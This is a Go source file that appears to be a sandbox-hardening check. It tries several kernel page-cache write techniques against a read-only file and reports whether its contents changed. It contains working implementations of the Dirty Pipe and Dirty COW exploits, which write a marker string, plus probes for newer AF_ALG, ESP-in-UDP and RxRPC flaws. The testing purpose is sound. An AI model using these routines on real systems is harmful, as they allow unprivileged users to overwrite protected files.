package main

import (
	"bytes"
	"fmt"
	"os"
	"sync"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The ways by which bytes of a file that one may only read have been changed in memory. None needs more than reading.
func init() {
	works["pagecache"] = func(args []string) error {
		path := args[0]
		before, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		for _, way := range []struct {
			name string
			do   func(path string) error
		}{
			{"write through a pipe (CVE-2022-0847)", dirtyPipe},
			{"race of madvise and a private mapping (CVE-2016-5195)", dirtyCow},
			{"decrypt in place by AF_ALG (CVE-2026-31431)", copyFail},
			{"decrypt in place by ESP in UDP (CVE-2026-43284)", dirtyFrag},
			{"decrypt in place by RxRPC (CVE-2026-43500)", func(string) error { _, err := unix.Socket(33, unix.SOCK_DGRAM, 2); return err }},
			{"shared mapping for writing", sharedMapping},
			{"open for writing", func(path string) error { return openError(path) }},
		} {
			err := way.do(path)
			after, rerr := os.ReadFile(path)
			if rerr != nil {
				return rerr
			}
			if !bytes.Equal(before, after) {
				fmt.Printf("%s\tCHANGED\n", way.name)
				continue
			}
			fmt.Printf("%s\tunchanged (%s)\n", way.name, answer(err))
		}
		return nil
	}
}

func openError(path string) error {
	fd, err := unix.Open(path, unix.O_WRONLY, 0)
	if err == nil {
		err = unix.Close(fd)
	}
	return err
}

// dirtyPipe leaves the flag of a mergeable buffer on a pipe's slots, puts a page of the file there, and writes behind it.
func dirtyPipe(path string) error {
	f, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(f)
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_NONBLOCK); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	page := make([]byte, 4096)
	for {
		if _, err := unix.Write(p[1], page); err != nil {
			break
		}
	}
	for {
		if n, err := unix.Read(p[0], page); err != nil || n == 0 {
			break
		}
	}
	off := int64(1)
	if _, err := unix.Splice(f, &off, p[1], nil, 1, 0); err != nil {
		return err
	}
	_, err = unix.Write(p[1], []byte("INTRUDER"))
	return err
}

// dirtyCow writes into a private mapping while another thread gives its pages back, for half a second.
func dirtyCow(path string) error {
	f, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(f)
	m, err := unix.Mmap(f, 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Munmap(m) }()
	mem, err := unix.Open("/proc/self/mem", unix.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mem)
	until := time.Now().Add(500 * time.Millisecond)
	var wg sync.WaitGroup
	wg.Go(func() {
		for time.Now().Before(until) {
			_ = unix.Madvise(m, unix.MADV_DONTNEED)
		}
	})
	for time.Now().Before(until) {
		_, err = unix.Pwrite(mem, []byte("INTRUDER"), int64(uintptr(unsafe.Pointer(&m[0]))))
	}
	wg.Wait()
	return err
}

// copyFail goes as far as a socket of the kernel's ciphers.
func copyFail(path string) error {
	s, err := unix.Socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	if err := unix.Bind(s, &unix.SockaddrALG{Type: "aead", Name: "authencesn(hmac(sha256),cbc(aes))"}); err != nil {
		return err
	}
	return nil
}

// dirtyFrag makes a UDP socket take ESP, and sends it pages of the file from a pipe. Without a key in the kernel, which takes
// a netlink socket that is refused, nothing decrypts them.
func dirtyFrag(path string) error {
	in, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(in)
	if err := unix.Bind(in, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	if err := unix.SetsockoptInt(in, unix.IPPROTO_UDP, 100, 2); err != nil { // UDP_ENCAP, UDP_ENCAP_ESPINUDP
		return err
	}
	to, err := unix.Getsockname(in)
	if err != nil {
		return err
	}
	out, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(out)
	if err := unix.Connect(out, to); err != nil {
		return err
	}
	f, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(f)
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	var off int64
	if _, err := unix.Splice(f, &off, p[1], nil, 256, 0); err != nil {
		return err
	}
	if _, err := unix.Splice(p[0], nil, out, nil, 256, 0); err != nil {
		return err
	}
	if _, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_XFRM); err != nil {
		return err
	}
	return nil
}

func sharedMapping(path string) error {
	f, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(f)
	m, err := unix.Mmap(f, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err == nil {
		copy(m, "INTRUDER")
		err = unix.Munmap(m)
	}
	return err
}
